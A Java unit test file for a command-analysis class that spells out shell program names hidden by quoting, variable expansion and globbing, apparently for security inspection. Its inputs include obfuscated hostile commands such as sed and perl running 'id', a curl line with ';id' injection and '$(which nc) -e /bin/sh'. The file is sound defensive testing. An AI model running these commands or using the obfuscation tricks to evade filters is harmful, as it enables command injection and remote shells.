package dev.vigil.analyze.reading;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ProgramSpellingTest {

    @Test
    void spellsOutTheProgramAndLeavesEveryArgumentAsWritten() {
        String args = " -n '1e id' /etc/hosts";
        for (String name : new String[] {"s''ed", "s\"e\"d", "s\\ed", "s$@ed", "s$*ed", "s${@}ed", "s$()ed", "s``ed", "'sed'"}) {
            assertThat(ProgramSpelling.spelledOut(name + args)).as(name).isEqualTo("sed" + args);
        }
        assertThat(ProgramSpelling.spelledOut("sed${IFS}-n '1e id' /etc/hosts")).isEqualTo("sed -n '1e id' /etc/hosts");
        assertThat(ProgramSpelling.spelledOut("  /usr/bin/p\"er\"l -e 'print `id`'")).isEqualTo("  /usr/bin/perl -e 'print `id`'");
        assertThat(ProgramSpelling.spelledOut("c'u'rl -A \"sqlmap/1.8\" http://x/;id")).isEqualTo("curl -A \"sqlmap/1.8\" http://x/;id");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "sed -n '1e id' /etc/hosts",   // spelled plainly: nothing to add
        "$SHELL -c id",                // a variable: what it names is not on the line
        "s\"$x\"ed -n p",              // an expansion inside the quotes
        "$(which nc) -e /bin/sh x 1",  // a substitution that is not empty
        "/???/b??/c?rl x",             // a glob
        "'/opt/my app/run' -x",        // a quoted path with a blank: no plain program name
        "s'ed -n p",                   // an unclosed quote
        "",
    })
    void leavesAloneWhatItCannotSpellOut(String line) {
        assertThat(ProgramSpelling.spelledOut(line)).as(line).isNull();
    }

    @Test
    void neverThrowsOnHostileInput() {
        assertThat(ProgramSpelling.spelledOut("'".repeat(10_000))).isNull();
        assertThat(ProgramSpelling.spelledOut("a\\".repeat(10_000))).isNull();
        assertThat(ProgramSpelling.spelledOut(null)).isNull();
        assertThat(ProgramSpelling.spelledOut("\\")).isNull();
    }
}
